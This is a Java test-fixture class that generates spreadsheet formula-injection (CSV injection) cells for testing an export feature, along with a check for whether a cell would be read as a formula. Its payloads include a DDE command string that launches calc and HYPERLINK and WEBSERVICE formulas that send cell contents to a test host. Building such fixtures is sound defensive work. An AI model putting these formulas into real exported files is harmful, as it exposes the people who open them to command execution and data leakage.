package dev.pagewright.export.testing;

import java.util.ArrayList;
import java.util.List;
import java.util.stream.Stream;

/** Cells that some spreadsheet in some setting takes for a formula (OWASP, CSV injection), made of their parts. */
public final class FormulaCells {

    private static final List<String> BEFORE = List.of(
            "", " ", "\t", "\n", "\r", "\u00A0", "\u3000", "\u200B", "\uFEFF", "\"", " \t\"", "a;", "a; ", "a\t", "a\n",
            ";", "a;\"", "1;2;", "x\r");
    private static final List<String> SIGNS = List.of("=", "@", "+", "-", "\uFF1D", "\uFF20", "\uFF0B", "\uFF0D");
    private static final List<String> BODIES = List.of(
            "1+1",
            "cmd|' /C calc'!A0",
            "SUM(A1:A9)",
            "HYPERLINK(\"http://a.test?x=\"&A1,\"more\")",
            "WEBSERVICE(\"http://a.test\")",
            "2-3;=4",
            "A1");

    private FormulaCells() {}

    public static Stream<String> all() {
        List<String> cells = new ArrayList<>();
        for (String before : BEFORE) {
            for (String sign : SIGNS) {
                for (String body : BODIES) {
                    cells.add(before + sign + body);
                }
            }
        }
        return cells.stream();
    }

    /** Whether a spreadsheet would take a cell that begins so for a formula. */
    public static boolean runs(String cell) {
        String bare = cell.replaceAll("^[\\s\\p{Z}\\p{Cc}\\p{Cf}\"]+", "");
        return !bare.isEmpty() && SIGNS.contains(bare.substring(0, 1));
    }
}
